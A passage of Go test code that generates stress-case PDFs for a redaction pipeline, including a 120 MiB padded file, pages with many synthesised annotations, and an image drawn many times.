	zw := zip.NewWriter(&b)
	w, _ := zw.CreateHeader(&zip.FileHeader{Name: "a.pdf", Method: zip.Store})
	w.Write(NormalPDF())
	zw.Close()
	return b.Bytes()
}

// paddedPDF is a valid PDF of 120 MiB, a comment line padding it out:
// larger than the upload limit, so refused on both paths; the pipeline
// itself has no size limit.
func paddedPDF() *Case {
	pdf := NormalPDF()
	const size = 120 << 20
	pad := size - len(pdf)
	head := append([]byte(nil), pdf[:9]...) // "%PDF-1.7\n"
	c := &Case{Name: "pdf-120mib-padding", Long: true, Note: "a valid PDF padded to 120 MiB with a comment",
		size: size, want: redacted(1), head: head}
	c.gen = func(w io.Writer) error {
		if _, err := w.Write(head); err != nil {
			return err
		}
		line := append([]byte{'%'}, bytes.Repeat([]byte{'x'}, 1<<16-2)...)
		line = append(line, '\n')
		for left := pad; left > 0; {
			n := min(left, len(line))
			chunk := line[:n]
			if n < len(line) {
				chunk = append(bytes.Repeat([]byte{'x'}, n-1), '\n')
				chunk[0] = '%'
				if n == 1 {
					chunk = []byte{'\n'}
				}
			}
			if _, err := w.Write(chunk); err != nil {
				return err
			}
			left -= n
		}
		// The rest of the file after its header; its xref offsets are
		// now wrong by pad bytes, which readers repair.
		_, err := w.Write(pdf[9:])
		return err
	}
	return c
}

// manyAnnots is a text page with n small FreeText annotations, none with
// an appearance stream, so each must be synthesised.
func manyAnnots(n int) []byte {
	d := newPDFDoc()
	refs := make([]string, n)
	for i := range refs {
		x, y := 36+float64(i%50)*10, 36+float64(i/50%70)*10
		o := d.r.add(fmt.Sprintf("<< /Type /Annot /Subtype /FreeText /Rect [%g %g %g %g] /Contents (Jane Doe %d) /DA (/Helv 4 Tf 0 g) >>", x, y, x+40, y+8, i))
		refs[i] = fmt.Sprintf("%d 0 R", o)
	}
	d.textPage(" /Annots [" + strings.Join(refs, " ") + "]")
	return d.bytes()
}

// imageManyTimes draws one gray-looking RGB image n times: its pixels
// must not be inspected n times.
func imageManyTimes(n int) []byte {
	d := newPDFDoc()
	px := bytes.Repeat([]byte{0x80, 0x80, 0x80}, 1000*1000)
	im := d.r.stream("/Type /XObject /Subtype /Image /Width 1000 /Height 1000 /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode", zlibBytes(px))
	var content bytes.Buffer
	for i := 0; i < n; i++ {
		fmt.Fprintf(&content, "q 100 0 0 100 %d %d cm /Im1 Do Q\n", 36+i%5*100, 36+i/5%7*100)
	}
	content.Write(textContent(sampleLines...))
	c := d.r.stream("", content.Bytes())
	p := d.r.add(fmt.Sprintf("<< /Type /Page /Parent %d 0 R /MediaBox %s /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> /XObject << /Im1 %d 0 R >> >> >>",
		d.pages, letter, c, d.font, im))
	d.kids = append(d.kids, fmt.Sprintf("%d 0 R", p))
	return d.bytes()
}
